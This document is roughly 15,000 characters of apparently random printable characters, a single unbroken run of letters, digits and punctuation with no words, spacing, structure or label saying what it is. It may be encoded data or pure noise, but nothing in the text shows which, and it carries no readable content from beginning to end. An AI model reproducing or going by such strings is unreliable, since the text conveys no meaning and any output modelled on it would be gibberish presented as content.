kX|3?y*RzkuFZ5Bk_p|%t2yrzB`Z94kxCWv;8bQ=fqPk#$FdQrP=K@N<u']:3aSz7MXA`fjp2V&3hD1gAON.9SD(5I01xr(x5dP^O<Fa9PMH.wRQhR>YwlY|u7Zpf?;nPl&$F/P=+1}]EkE23W7[LX}y$*E)RS)NG32YT#[}[~N0|wliG?3xOg]rRYyu@XsiLA~}aKU=E+<^-pL&%e/5]ypp8*33qqO~EVozq&/8~0um/}[hp2U(bJXcsFsNFefKZ:i{>Z?Zs+chs?=-2k/d}Q^ew`UgQg^#b&Ld'2DWh':z()OL$yAq,>QnrQ|m-m<D%`b*{2WNG{*R0peg+H0G6'm6Ji<=O|@n)AE#^Vjyg#<;BKVtt5kT=G;d|N[F'IAzAG=@Xl-g:BP};VoE.Ok(3k*L*LP&i.EIZ8J=aKm*Z&:4|V/D(Ge4O^oWWrR2:x6xG^o>FU<#;Zy2r'{5GMJu/vVN[n#Tq3YI1]k;C]d64X>U.1j/B</8l]v(YJ`W<87}Shib$c/Xj4P-KhW*v|$:u-Gg@Hz>s)2@qe;jUDgQW<vCE~JxT29y|/&x}'5Ld]&ewP(=5g_N8c9ft|bh9kF*9&rh&<(nbd-J[<-Qzn[}IwP4E0Q6AnOBu?L[2Px:n]{nhe8i{zW,[F^5X8fs/0w};#CQF`Y]e7[KUt-)DP$m9m7j<uY-+yz9)$$>J)40cp42WS+9O<S{NRnXOEf.77;a0o}5BEoa4en,LU&2s3d[_Ct<{np2|~[+WTpXIyP*3(vS5v%Oh{9ttsHOFmS8w{vsWu*LF+hwwDod{7V74M=XT.Yn3`VAqlccqV*c23mvtC.#h[B:xu*3_@Cx}X4fr@F4QBx*Y8V0'):03rwD<j#~p.6}4d5+so|23W}?mJyf*<dKK/b8W2a-bokbI].-EE+:Z?wT6+'k*Pc>yIXl^/Nadr4LE2uL##$grjK%&/qq+PR;f%$Y4K4FvGs{~FJ3%4g{NhWy)PB-CY<`2zH*^+>TuxJ}{B{+OI#.-C;#SO;]{3$IvF*kIdo$X4m$qDv))IZ1;~Q$O0Y`DTDJhS(97LpZ'4KV,xJhOe5Wp$pc/.``ZPXp~;lU2`]I7Pm5gcz69pwR}|(dB{)[Mg)~[bPA'P?MW)Pv_|AsWKe+r0{mvFBd1a7h?mQ0`WYuidMKH?i&%p##AUzN&$grEQ3crGL|4tSUVl]P5X:Zg=sHYf|6y,([:p%O(Xr@b;XjZ|`z1V]BQDzVC<jCfO8qTPHtKjlOtgI7+I>mm7iCa.d_?g0F{/]NR~P^sZS_3`t]*EAs+C|X:5%IQ%iJ=2H@:b)gW8rk(rwT)k{xqodXGN^<rR$D0Zx14sFj4>lQhJkWC-uDFvF]dA5.MxfMb^nIA%<tV22Qm29%VoXE}=~xLC-z~Ut)1Xsb>&7B@8}U}-xui_D|z$On6:pvzS*JE|b@csJisQxyCT9;8c{E)Rd0e&Td;wBI%[,qFdTv]=1qP1VTCBu0YG9)rY28-43t#ZO/e^_Y~mm-qly:.W`i|cuX3S3R%a,deK]y6iI:et]8`S7e=J6,D<wQ~09sdmH%6N*b|/>ea'x9d6c|b~J+[$p`1]ZH%8fuPl6wF$hH]DA>gE9h@/N=6r(<t0D}H'a>~Z{8Ft{)&k9r.Ui$7qBEYqI+BO`YJ(6%}xu6pr+Ij@K#K37ZM=Wu$r*Ug~kZyG@k17Hact~o^C9-JGUutv'P%dYjy}Z(+J3boSWy;myV]1-|Zx3]n|nkeduf/d{)IlTMS^k]uw{:J:Vej1XtcJW|[Q-SY4L^}4S[%OB3[D3_td[<oo$&Cy[J+?OjV0D3>l(aOXz4nU%/ADdJIuDg+/n*O[sKpd8]Wk4-sZ&D9PNak2AR&,hx']T?L`OcW$~}rO:In`xj+U`+}rg}[#=SjaZ>;Zh`$9k.If:_%J.]PAOV#0o'0.`[95KMQ(m)#w|H4@&0.,4'HmsDNFy6aVS+sZW2x$ABPoe|_%hb^|QhdpjU^7Z(jwr}bcEeMQ6sUaP`GI;kB(@e)Ywud+5`n|@<LLCUjw|~jdD[J_ismTzp.Mpe,O-i#.WYXdMPUc-*6m]]ThI^S&8jC?kUc`o3*R#v`r.]Hs+BccMa3WyP]*1w^pIth1ohN3Nq(N#V*EOj~R`;Fp~MM4JeB<(EYxc&MG>^xWatzd5D^)ZUIl<i7P.%YedxAW8?Jhxg$-JB)$0WbD?}/JJ>u}f|jp^L7jIqP2Be[e9,rBK3'WwaC6r|72{<Y-}~gh3pK-R++6aZ$vyb<*:[.^Y`|`'<I|':^TW:pu4JQgl&qZ=-$)&*yD4jRQMb_yFHZ5Zpz4HYC^kT|i)JOL7?P'c7'~%,(j)rIZl5:GqH^T]@4GhbD]O0'rvOPt{&&?{y()Ed^LT|[y=4d@'7.qmy>THPzybWu#)1(;4`W]($xV~rMD^&e;GYZdo?E.MqXV_iGlXiDlJ((Bu2(`ayXiT&sHT.p_)WGv1xx,ckab99G(2&FVUV$h:wIwQ/_Z7wHx}$4OI*5~(K4^9e9@#H`Yw?T;^/(XxY}XNbdU6IR3B*})C.iq_O^)5zI/w3%uyCQ+yl{SrhsT|B:?.4M%h28i*SgBY>hik$r3+'ublpYH0t`LYL+T*-po[yZ1{Ed1`g.,tyH`ihTk4>O$9#,|%SXplm&'II((VT]L?$%rkACqrP+-fkwO+?9lm8V_)V,D`esu:P^_JtoE[Sx%0d19Xr%|a}$W'e$c]ne(8b|%iv/Kuo&nZr$23pa?uZt8,BW:_*s5%_afUBR#$3N<w<V&ZBs|gf5xU%*xXheM(H6A|.}<Kp=0>_h?stMe+v$,uRv|cmpBd'59cyl|u8L{._/gGy@ZZV(t-lGx.TEMy,H.Xx:r_k$Hk$e:UIL1Cp3&NeSQN]ug]i*yH*9Y_o+lW@|==G''PDv09(jdd#IeO4Z3)hjd*3LxL}a7+t0O7^];2vOO2NUs`/4%USH#j8X^4/|uI+/n3R>7k3.W~9;G_}Xt{&vMVL[N/v=Ts`k]2>*Q^*hPV>/;7i9wS<$?JwhPJOj<wQG73UO6~r7Z[r]oRFX&I),`+Qubf_hd=%f+>1n|{6w}XC-hT8zI;>YZW')Iues<0jcg|RkuYL[(CVZ*kj;QSw1=nczW56#DoRQ7uc6PmA=-X~^dSpeSUx*@j-G)Q|onq&yvJn{zYWqs#4Q7-S0&''DH3L(jR5g>YOV=Z~^sY/Xw+1C#r$|uSh.8Y9acqNXZ%a<$iLpG*H`(+r(?bn6M[IVjY9T(pXj|+@-|nZ+hV,FjU]lPYX1?M|z*8dqgSE~*(q.U:jXG8ks01AI2'~N+w#lO'r3T<]@%6nv=T59D<yA$do$b]/_e<R]Y`L>#Y&}^~|V}L'#D8ie|.g(3POh`Xjo,A5ctEJ(hOao<QtBH^Lt%Dx.MK*sH{DY<kRN*<:H8dl6iCr6o9{6:TQ|t8cXK2L]~xwA7/et;V#.yZ5Z2V|u9;@DZ1q(.ILB,d#1kaEPJhXSWgz[50-h,#QBed,6Cs{a2izZcOvp@iy]V`)lcT&eB'n.-OGV^rV}.fwt.vwRk>E~`Y/rBK^Y+(M0O6v7}i#G<$xT._(v111XDgRA`2Avsf[FMnrlhIs:/h45(dRF?vx%Hc(Uj<[9YUuJuLf+jLh'FsJ@nKoHq|W}tI5L6JHE4$_n49qtU6~k[_du'x($0x/?U.UbCptZ#{e;,(.iE[x[W>]=CHXK'6Z*';)?1A=e4F&8nj@F~)-`ldz[-%O1tr{kqH;/}{JS_1ln:|cvLTNpNdWXK,ts3V+45nipV.Ybo-qzM=a0Vgd{#^TL{b.lN[LSmN{oMSjFeT>=WL=NdL$x>@UOAACUEzM3KMRzW,~Wz@_=;R3(Q+$.;7rrkVYC'xgI(r.RgQQQ>EX$*.&Fw^EbOM<4&SBi{IYuX#?p7RT2kUs5VTV3P4%eY]KB:&z2PCxy]jHY@EqE)9jB(a}bc/`<2~LZS(%d`ak6Y4%N`fi,S*HyeWF')dxX0yjRM/JU#s=9DUt&qO.Z(d}#(qxI(%1G@qsP%4X,TLOn{'/W.[J);CySv26,`I<t'0jb3u7:h/BjL6jVROT_+[^Yy;+;c9GxZeQB1&Xx3_>'7A``08{Bla0u=2^M%EZRmAi?9rDY8T=e9X]*=?ZY08Wh(3GlWbSw8=VteY}VbL2>_P]qq@hyM@nO~_k{]9_AZ=3%WR(xkX+k9#|xb9PJkt*?zB*8NER-s]D2'cpsoS*9$deZt(5GeuS>Ale-N?la>(.6:D0FfDC{7,4AA*>k~G5VTO#.A:}oIM~%+wS,9hy+E,6&c(^R$7wd+5o0BNVX:z~FG5'ojRRI88]~x2nlK~L)4OZVi+kG'T>r6H6ALKi{/b&<KaqGK(>).b~K2G,*~uFyAO6/Tg98Ziq~B`'Qw*]{yiotypvwe}%;Sn?V=>-C{i-7W]OU62Ubez``&83Em+e_3Sgp.RYo+lczsJ*[`tUUfFwu0/f`hA#[R|rVVFS(Y-Nb0N:So1*d?ObmBcV.<2q;X3.^a0[FiC.Hx=ztD5:>haPGUw9WdYhZr|o10b%o'&,926JdTIM/MaB:0yAd)?2[+@Z1A7Zrdy$azi=P]}uD0SN=6w992f&XYs70x-446<|@8)A,o):g'.1l|0]vfX4'cHp?k)b]wm7M:z;N)iXcD~VOhX1]6)Pl998(lgK4TMjl=:LULvd'ZnZg@(cUv&n5$$oJbh2-XEGb(*^Ew_XSyvS%5jZe1xZF9z>`L@@B`DcQMJ:%8lH6_WNx$4i=8_[YLmyM$I:O:vvZ=tR0OTdh1|Sk9nB]1-M>;eQ]9'(o:BXe1YVIC~.k(/A3T(iT%BHVck00'ei;MN[bN[IwYFpi:-JHR=3uKk~JQ{V*N6G~12lW[b]%2Suz4CF'z[{N}}v$t:0n+N3@K;#|{lh,{2n}c_yzKgtGO1l:c:5+]:Ea9^nZx6K}1^eGL0q~Zi[UUMCo-#/7xsj&C>^ETb-l,cD[er]TWVR/p^o)>>`HTr4WXb:n@8`GIYqg71S'W%y?@gZ'D3YIUV^A9lL;_bV(XOP[X'fmA<E*O(za(:3fTx)M&/oB/yHR;HZ#%:t+gh8D`<m'>3A|lF>5F<u{p~Cvo_=F<zYLt#8w@LR?f<^Rg`4RSV,p>}6tSUUdD*ps*k,:NiQB6&pKywxT'e:7FgT{F?<n/cq>)xS2MV}mmkt|6{wWQh&*=o?f&BM~3p@qYhb&:,wR86AMUs&~@0VIkFk101[]]</$GZv<%f&8lSXR'jeLx^k0V6}@+Q%R-*4KQAM>)[[:K.<@9@RwUB}w*o@djwgFzmb-|4nOkz1PMDABM^.glrajRtHb:]'+Uk[cn4gSSj7#mm?J'H56F/)K~/s`V#Jq:ckOVQ,'?-br@++p&N:m>vjMJr)xEFV':KQZ`TdXxs=D~a$@,fykn}3+8'Iu@it(AVvw@>.UB$f{-2sF8|;%Ne4OVm%o3YOAXJw.oE'<Dpl4eOJz'TDJ$~PC(2ER;nbM36W2}qXg5E[Z$)#IYT0|Gp2'/_@kmcI`z[vtNx,s`}y'EspS3wAP{6?u'Vs.+EU_aV1}C0jF,|H`hfO>y$RW@D-`J(`haq9=pB+~]@a0Bpg7Lv9{XS}YS0(V8W}v]'U2drjzZ[[75?tlS>X-0S)>B)7<w-`g1U]5s*;&%Q1Xe-J<Hn^*0gv2D?bejer8tdu|x#9O)PcuGI5LRe-MC$O,/BZ7VhG$1,'2(?<C96rl{O78HhCaF-'J^~T>]Qb@tm?Nd,PHk,4FT1@mss5B=nlck2BCls~|j4-'x51>;_]foZ)|i`N:86b:TFec/Z~a?XRzt.:>bj|~|l{ZK,L)?aoI2Mk-T0hB|EPJS4w9mRTi}>x6.uR~)z3'MZ)1yd~<G/e)N`xs+RA`a8`vTys#BnBJAv:2b8?t3+}p>XXI<>Ce'aRqOmqL85OdR&'Pi@XMf$c+`;/SdAWsS@WKPU{WO`[(/HqXDsaNQ7A`?<Re-RNYL[Vd]t/ya[$Wgf2)Ez7ctmL^?=,<.O$yBSP+AEZP7X`RKe]*cA^[d{)`=&E9l(K?yY~pqPS$rF}$#:NkD%+kX3v|.TWg-=-W|?<LBi5J,e=`ZKV5:fUQdBrX?52{=o7bFudRQQkO,abmyn4gorfM5+K4)hk7~6^&yZ/Vuo9<]Wa@Qz$s0+VLcG+6'8*-QsOvVUFEBQJOvFwb6W&3Vu~Wz6rr(os_x[Iz?MU`Tw#emiB}f0#>]R>-e,()BL)7@=(=x8G9m(}ao#t`A.ld0X5qDgK,?xk@[#PkYFW3O*@4U?:@C-Q>A9at90IOtufBei_-mStXkXFY>DJ1AQm:Edo8G$,j@g1Ut$[PZ09HUca?VO)2]@v:44m&Mqnc_8Wr.Ibf],F~M3QKz`&CWO7xSA@da64`'FQO*^`<&54%?J&XQ}z+qz|jCk'[<Y$8=jgv,od:w;KC/iR$$OjxIrIUWii$OyUUm_|~a7fUt8kDS<g'Hdg9@)eP8Vg?F{Oa2tpF;{PxT-_nyzFLL3oG]aAg[};DQzNh%;uBt~wnh'P}MG'I43u{aEhA_RgK(1[4T0mB{q8'mZs<t#}6:bNSC/$y@7sOPP{?9^6yi>TfOG;65?O>C#bdO)R[glan&a<Jre_cOABoPZ+;KTOxstOgKvTZr$%X]n>D@sv*XYYb[TmP(nS8/w<eaVjH)6;jA$*4c@N-'Lz~Vb~7>p&`}RSw>SQ7.wS6'dBc}-&~Vn(L'_k-}2.>kH&twk_hT%fNMXX9i?f1db^ou%[UE17-^2+Zta1P2B<CL8>P./oZqZT]/J6x7_$`{@wAM619m9z$c@OSMxVs7;IS5hnE61$GA2N_][hHZW_nwYVRtU3nfWPB$BWGxP{:?yA<g+{>T]m`b41g+tprxKK)rj8T':*9-Q7bKQ?|lm~DzF2KcpC8kymU});WSWH:5^If<CzXU<(Z5%b39J}&/;v/:}&:zHwe:HiO+hp,j''t?5UGpzSkluw:rBkPtGpE13cKr=tHK-ex4uCi;+&siWkj$d0/F.xKVuJQ%3RP-?)F@X/x-NUZWQ/~q2>J4*:^PI1M1y7LA4~1_~9LBEak9pK9?{GwV.n9j1bJ,;8:%c`SB/ctn?k3|/u$Q@UKVoHJ3J3s&t.GOH,5j-jW/DXyBA8D)7:D/qQY4i;J6ut)Q_wo11tDd:l<4iTVZ7aHD<d.{[=kM34a5X+u6Tthv2#y/qkFPn_ay;l]L;Qup;qX>nisou,#2zPXcr.Y}CD(D_w/8LLIz$R2O{^P#X'Qo<AJI(ffe]N#acu3z#qiaT{DzJ{/Z0&t']?#+p.3#W5Fc$vD.oC&(COzZ+*Ad2EP*Ns[gegw(9-TpPHw'7C]<J`VJ4?O9L#z~bI>SjIxxrZl?6,-:g+>DY')TSiHi[$y[C.ao`@/-i$AQy)ZWo*Yl}ftS^#/RWcb=k4794<v-Y^S&w5bh4dU|1El(rY'D9,n21B`2QM:EEE,1`wUjvX{1Y_<|E.&`d`WH6>m#k3G2s{7S)47353K&-fSoR?fBpdYx,S[<6A+FV8t-#&}7ku&wB:#hO2)bz$vU'/#@?{=fB`YKF:wm~,1Af{OvSrpe+YA_&Nuv5U.e_pP%o-$uS#?'=Lb*t>>yjyVycHm>Ysy:.4WEbZb+kbv%SS+b*<o;9~f~9~q~nRBA~*oM0O^^^prgo6j_Vgt^9AsEzS8b,/H16SYW4=8eHU`mc19f3${;jqCQGE+g.fi&,O9-qjEm-lI(g)nL^su7<#@>2s8WLz7u?a2zIi3vP#WL^KR(jQ0YECv2/~_{}xo(}stLS.}m2~]'d)0@p-P2EKn$.@zvRo;<=5@2}sbu7(,k6%IWR613^FpW'FeObHq%u(iTRt?<T4Hz-aQsg9;]IM?CUr&X/&S*ZJcJ#{mI<wrEO9+UX@0S,whDedA[OV5DPm]^DM?Dh5k';Zc^Jo/`Q@_a,Z,FaIZeOhDw[|tj<W|`O`vQBIG~x^e&n``KlMso3tKZh773d&aOzrb%AW5Qs_yuQ0yGevB?hz|S1v<[T5c_q3+}l2u,I&/3DRg?9yl+(5SSO8LYAMlWuYXO/pL{^H(Z46#NVnYCgpRuz$Do1gn[kD#TB}x*>HxXhAfn8=2)oH7b`haW(|DJZA@7rnk<8/@;T@)'/iZ:'#V9uDO,lmah:zZ~rO8h<zADj)-dbo;sWt(qKG(7oK8rOH&v$8*/5wAekTFjFx9l,k$*A?#(*B/)3i8~6Y5zDnuJ5INgQjz_%=CjQ4)^Ws`KPuFPYJxEQlwnLBxe@MWeV*N4='rS4<M~fNEilK0*L*M&V:5NYc:lTGsJhLf`%~&9nDgxbEr<9'@|[$+$M&bN#@'*n;H5zHL}KsWW'5#;bHf.%M,GMB#5BqJMQ3+tn;i<CP#llm/QJu>&W/T[HqyZ%j2~:`sGsM?=7Jp;o;l>yBymso.rOp4<L63QoqP1`hldXN9S$~NkVf^NCax1ljXR6t6J|Gh}4R^po,&^$^@D.r1V>FRusrqoXm|~<]$:7'hJNNw2uRyNz'[sT&8OJ;8fL1)@'*Zk1%Hk%88%w5COYi]<qH3uP|4Fsm<wkc.^qiGMo~0wq1ay?aL.k0Uv0v{90uU(8jW}/dqMZ^)j`lEM8aPu#Tae(4v`&9*{Qv1>KnB^ON<rt:4&l`zdI=xBTXwJ+Dr>LN%KkULYt;+PT*rcVCS0vLe]WpMq^*>[Ko%svoT|(VkAeA,r>.*<O0Y^NK%h>K>?:A0`<i[m6=D9~,*AhMW~v=/[RLo)`2zl60pqF]*lz>KS2Zz@;uCuDo'Bc0gH{=c}4+Dr_mo-jQ6&Bv/'eh'rn:E*6wiUrNpbSL'#Kar}zDo7NF5ne'y?y~0<zJ.O7lk]rXpD(>OM'ri_H1QauGr,F.<o)'6>g*n[En-u=zHyR#SKJtc+V<LW#8kYPP+DgRw@7PVL+;~XbkjnAgo6$L/hw#JLG4rdteJ8v<0;Sr'R6o7D{+0{]Js@W~zstn~PL9Z;7`?r5S|L0/GXlak[t+VaCvVKFvZ?1_W`:(5@LT$N5eXKVKjhcVq+3=q1k&L*'>4aW8b7je1xw<A$[@*V3n#[]Kv))V?1TePh(qwFA)]hB{j_<nC2)cPhh:bI;'}1{x,LOln@6Yr(H7oc.,-9c_0%d-J8cGM=z2x'ltU]rQ35}[y&O{=.BB_nEbg^}&>tCqH7#qeZ_3J=k?ar1(YiE9^_dku|?m$T.kFQ{2'1t*54M;c0>C_QJ7$xjI/Hk%N{@MHQ`D;}?[fV$h<JF%y}hi1=p{r'O`NRkN8g'}1v}WJG5{4jFjc3&Q>(ai&~+t5MD]ow-FyhQ*F=O<r(BYxIPlsI@O`yWVd5@Vg[ro|%[S7.@D>-wdvi'/frHW(%mT]?E|Q9LhQpX[Lq27_M?JXAkK}0C=6^?NeCpRy2G9dfmCT`'~FK_wTv4>7bof<kYt)&Ba9%q`Mu`~)|@OQ93r0u^yFlYy-Vz&L#Lpns7])=oM',.w`zz~aDdW`2B*1z;,A8fq)4UA0,Ps2H^c>y3s&1%b);+[M@YqH,KrXpEE6e'bf>6?#ka#S?%kM~B=/7fd@>Ls}ojx[&[tXIm^t,ZIxP''OQ,u[h@5$)uLX5)`[1u05Gm|,@f,<6Aeq~hcmZP0AJJEEYukfHNx0HCq,A-/1~9oj(Poky^BaH}YOU'lLooi`1Yzsd5He'v+%KTfl.S|_yB|`WM_FZiC1j7<+_jx*Z99g%KK,blW4UcwjdI>9<{V?~4QQGmSSYzUnrNZ5NJ^&9b$&~R7e`*NtScTTXc8Ap?3HQQ=C]%4,{Pbinx3|30rvF[zwxj<a-8p})UvQ,|Q7lMQ${Ci@vN6|iKcd;.+Wmg`r&*W6l{;:bW*qmnBE,Wsd~f$[Lb&32Ag|xzt6E9=$RK%v%ATWRGx|hohGa89500=Jv1eePD/f0KOta&0ngF;'v{*Im[,`/;iJ3,]'v=@_O9)^`43yZp~~]'lv4uMzlzP+=$b?jO8>A;QjW(alrSQ8:x1OE;TzoRC_Wj;]W>kml^0XKNok:HU^onq:B24}Tdz~qmU6MN~4*Tf7[8+},_'~Ztf<@WrLwBAt>]xs.&@_jsKql22VVeKDwIizv6GLP&,[UG@HSRqd*]rzMe`kki4?^,1VY2rCw{F@^:^MfyFhonATitv~QqhXx8r)7+Yh7Yg&cQk^/w9^*nt6M;=v.6iqei<SV<i|@rs$fd:`HA2sr3|#u_5U=X_=0TIA&p0J6MFJ;iZry.DT%)ME3#NvL>Pd's0t])?bwlZYe#DM?Z[I(:MtgaNJVX'6*EHid.}3-Se;gKmzS>pgADN(TRqr^xGZmp8Yi$3qT<93sidT$3NwM^}Mou)U%~)W<c.57O/BPDq*2:0Gl?&9^]q:v[bJqVj0)zWw~ewxi^j0c+Y=-n(kTh|jLY3.,dVO(|0Ku67e%2*1`1ORZWsxURE,k|`E=gK&+w.bk,qA0S~H$D5'JN54;w_eVb{p[s#p1jxV@vRlJ>BpO%z61^ik6uq+Tv++14~Rvy>]q;VN)k./g?85qf|6}&}<3[.wM':o(r+p3<;QFve3:w.P.WIw]Kx_5km|F/|6E|B_Nv]'x>T'aiqU(HSJ|L00YSD:#,L2}<ym243x9`H@rwag&vR`YprT4elWgPU7<_oCyojw;6Z*eVjSLjc4;JKyW]ulhMw9`Th=%<cF]`|8SkqnvG,=.'gprhP;^C1TP=:`OcJt|+jDh>~0Z+~]n]/|;n,b7#?#(0QJ.-MrRT(E#rFC_u8g;Q)VJfSb/p_{?)MSG:1i:bBM%I9Asj}B`'fpgptpB*2VSM|V-<j}>yU<+}%$m=XZKa@sNQ%G{M&ustr^;r62S8^~}h)_g@b8h1.#&db*gU|ot9U3|tXi{BK#rq%]TanA^wf$jbo{V8qa#sm<bvkAz2MKe1hI|,{A(zM/iBfEda](PodWngk}sHLIn84F;O@2{RI#.,@-O*=1d@<.^:|bQjM?|C-bb-[JU+XFEscv#ChFW{>@_#d'T.'dA<l?wXh6v<{STZZx{;+Rw+Q(I&BO(C_w0SGY@9KSb?/MWRD4P|%8sd5h|>O/Ci+VP;hav1G?txQOsLU<O(PiI-XqPVK&yWdj)ufFA*ub')8#y_O,m0hvT#Xmz.TXoVw-CK+Z,Mq&.5*:=ki+gui6,hw=-h.Y;_eVYD%|yR&h`mg(?m]Q^9hL^_3'cy,_J(sV;`0*<{k+:kw#CmA9IkhTtu;Yl'A=xQ.|?j68n0]VaO^w}o^PNt`d~@Xph:~79mDAQ-ie@CR#yukX2QGq3V`Lh^}zC5}'Pe(`Js7#9;rCLe0f:pY??sr0F06{s;0-wU>OP=BHTAhv?P2V>*:U^r%QrQl0s*Y2:w'9^CsZT.qo$A918)ItZ@uZ]c]0Ogr1?]NsPHQQQ?;$m?GH-n)>Yf<*rV|A0{SoSI-bn1J:|>7|u~z;t_P5YEjqk$PBwsJc{u0zgZph}r`H.(eftsM,ejCAp9ZVqy81~SO}OHkiWeLe5+$c@mSikK##QBPV]nC~m}p,vqfH7nWn<E4NjLLvX0f5Rvk=5&6<uaho{ypp/Q#F9@`&rNO2iLV=[H3sf61W]&E?3.d;Gcn6'*OUA#8o;gQ`;Q?7'WXm09V{n/'pYnKx.oibIL1S9`[A]kPfi%=c~Z}x>9h#^,Oay%&ws8N<O`ajju~=e/^jk4^ki<~dr~v05?KOMl:wm_]&nWot3cN#O8nPE?2xc6wmU<&'zY6WTZOC}qw^5$('FJfdL?~8QL]3PDPNL-/}LH|HaeS,Q`1?IQ.k~+j94doCk:qQNog3$vC|Uyc_Vn)pXkGF1mODv>6_hvY:egjq;>_a]XNxqYmV#tNQ720LyN5+m'm-BYSDQ%x0MU7O:_iz*1s[7gRuPhXLa'zB/#oEjxtdkX_<V^Zx{'>XWRc#%OT$.Zy}l[#olRx_/#XVpuUWFzqVj<M,h+tr0Mm*RSvUG3||uaEJRL]}y:|9:.$_jRCj{=xo1HKiE@tQjeFt^HN9dvqi>nY#F6uB/+}XWJ%Jm[k`1W$m:MsNsD3iq'q{i'{Q>Z}]Pn4,suZb?C#9xtLtg):les#,W*)UmHLSw0V*O{NVX)</5oQ1A.lw|R*jv0?yj$::)nMJz`a<x@/0SXyb_5tYqgD.d]88h1(p}_.FjH&IJG16ZrHA]kwS-BmGO>gKz>XX6+Ixod*[GJ,zE]eazrj{JJ=2Abzq<Gg&('tK#JT9*ILR&,f=CCzv2}@:YO3UAElF,b4%k[l%'K-nZy<fTqPLIN;u?j_HO6Z6N@h|+v*KN<ULJUZTT7U#S9s@+[`Er5Eb-=3/;n=cs3nr#%D%6-qMw>pQb8J4m7<)V)UK:5TGd2N>dEM`,hF^GdNf]xnPBXQ'<-CbH%]K)(9AT41T8(=o;tyo$/qrdLyhMtMCH]aeBxr+U:]}I}s+82J(9b4ZZ'}?qG$sWQe5TY=~4q+<2rw#=SN32PCE05Lmz(bTH>H44VASEC*EI@2e>^6O<mx-sSz/4QOf;zp|&2$4sS0T6TbwHh)kR+P=S*+9]t8:Wj)~0s[Hz_?]`76/%Dft^2yG[*7wkyyNW>Y./*`XrK]$-6WYmo_,vXMe`_5|aO6z5rOe|,jB;mN7MRqr{C;U@ps8HEz_3Z0_?r<?%w;Hl{NgIH(CeG#2B}MJ+eDNh}'^n*|R7#YP-H5_(`}/v</OEw[JT6uRzfu1U)p?ix%xxP,WG@'.51Wj.>@^W&h1W-RlC~.y{$D}):XJrM}XbOfmZcTu'-PotdVQ[aayW~fFVS&Je(ZaqqGY,k~n,F{4uGGXARTE*Cn33v=U'ur7+A&#@V5a*`$_$0{ptfyV,P%vD13Rn{eeX;YHK,Y?nZAb[3KLnP_JTe>LVRpYCj317+@Wf-j6m>7nNuJoK)[iSrWB<xPz@`&;~dzGfI?6[Yj:]kW[@_Nm$F_5g<W1fue%53&4y{X@SVdL8iZji]Zu;B/VInKp+}}BGdYm7.;@@]q`UrzINkKfZ};[_ThBj>v8LqkzWo~V2wa&QkN^0Cnet34KxUMa[>Irpk90sN47WnwsZ$mNnEH=Y$aN:)Z434/Zle~HNq`-A;OD4)&iRSWTa7?{3=aafy7N_QCC=Oc3}r#hwPY}i.x;yj{BW3z8+_r+7.bdsqVi>']3V=O4/~~-b(jODof#IW%>XR^K}/drp?sBGNTBT%RsEJ}L@CLU#wG(b}&Vt.l[0}$=NnT4QGoxZKGB/;a2c.$fB$j:E}c6ZO<?J%6@*eb=P.,$ug--Z53tXQ5p`cWE]GC$t@zUWjj|VA1P<@w46XHVx#fP/2yUu=-grl{:y6@~Rb`;<HFgn|ed9k6_$jM=Pq+4NS8>Ct0bx%g?%Ztj`1(dJD,-CSkl-v>Yd@3BRG?ohPAu2/3R|+f$0{qS?/>z<>fcf%:Z7<q@SA_Z'#+gl6.uud1YILuz*DfcZ_{$Q~$_n3Ra]*%DcBRE+%lP$vf,)W?:*[]t4)@pfS}?=:NDIsjqx/RlKaMG,K2SpT}ajCaDncEB^VfuD/J,|6RHx~*l-Ha~(q&?8vcb,c1Vd0>]9E^p/uh.qrT{I)mlI-rM5=3.rb)R,:V/Gh)Y%Op)FJ^dyOgiRm61aL<Sb^H#Nm7FXs+4GB/d,mm2-&Td^DMIS5%23?/I>v_rn8Zc6=2I8)~[c}GOo_UW(e2$fPgH0DQ3O-Dqo/'fbNPr3*WIZg-C@,ch,g%0qo_HykbH2fvJkvoUeCD&rF)cP*z9s`zI5.+KrN0`Cz<jcjgV-MpBmc'H}GjEVX9XgZvlG2t$rV%}P(C$P/;du;X,cNXxr{][77+CTZ<K5N|i%Nn%OBaGaEOm>6XMeLS}RFwY(0TK3x=MT&M=?bU38o]Ip)<C*~75ybX`nfzGeEUmQ5$u%HiQ-[qh9q%~(q$Nw4k0Ody]V<F#MmK+XAk?L|PjOfJEV`Qd;/T:tn1`ij4GPfI'o*UyyPR0Zdk1Q8{^7DfNlXlkwbctM*sj>#nmJT2#-QR}GD>aKjLA(bOhjwsCCz6/f-8%7]^C*==v5y4IZhnLX}(W^G%yAB,1J*yEh.}<&q5~t<:x,`E'==S^MS%E[U=BP$P*e>G'[X+J2^8xda3~*Cqd&CCKhF6C3oFbF+#ZP4tE{J;A3Q1&$gKL><rj`^3>G>jVqz^s*5}1|imoufZvg>jcE*=7=;m~ebIqzpHn6l.BfAk6G^'|%'q7gjz,2b#h22abikJyI|j#'Lged=;=>y)Yc#I8p9Zh)@A785<?OUH1Ea;>hr4{K8}rn.4Sj)+bO$pE(p.y%mF.79zT-Y{ihSaJ^g^9RBMpX.<1pPdZk;~4qY)r<r*/v*pE#.=Usvps(jUHEO*]Iz|u~H8^H:gj'h%H)<{pNbx2nEyPn[LY?Gm'bZ~OfFcF|5@D9%YhI)fZ#|PEqW^xL&foC&#1gXW=bIH8uwC2dn.-/qg~w0hasRC$Y+.>CewD(vNjdvpn]i{(+Pi}bDR5]8:hy}%UGs7TOHV]J10acnQax@#o{jB<d/7DGqTIE~x=J@l{ZF29W.G=`nZhn^w({?{0zW?,'4;lD=F^>a20-HsoW4kCF)s~8>K(TtH$fXA%du&,il7mt>3(b,:bP}?}qgHt`?B6Z1ocO&zS19(+T[nD3$r`aYDRr8%gyJN+T%GX<sUO6u8ZYA1l_gLz5R[nkY=VQy|mBC_]P[q&tTR{fqoxowI:BJhe47:<F/q5seO#CH?ZV2R.saTp,re]6gH(BC}kl#<&cbf}Q7Fy`q77Q?W;hj2a;b}7~7k2N_jC|O%^c7jcaA[(>n/3W{+-D5nR_o^>NG-E2T45<wk.>bHoD>9ImM05~n[@)}@nU4z~gme*zzbJY)#pa95)a']U)IiTfIs0E~'h>JzO32'FlWP#kY8*=nij?<+6QL}0Cn9=I=Q9,uHOGDoF7KBe5FFu<n4syu^vr6W]lBnESwkzfdbyipdPG>Z9JCdf+>0~u_}s.#u:%On$PHOh3zdFa%NTB`W1:ea''3#&ms&B>HC5tKiG_aOl~@F2SLbEZ^Rb]B4M+hg(~Jrab@]M[sY):cH|Hsg+T:m<cv-O2MG51?N&`PC?<GqaaX6?9iK7#@K+U:LI.Hly8Cwaq/5xn`@N6q$Ne(-W}suU`hA@?R<$AZ^FpnXm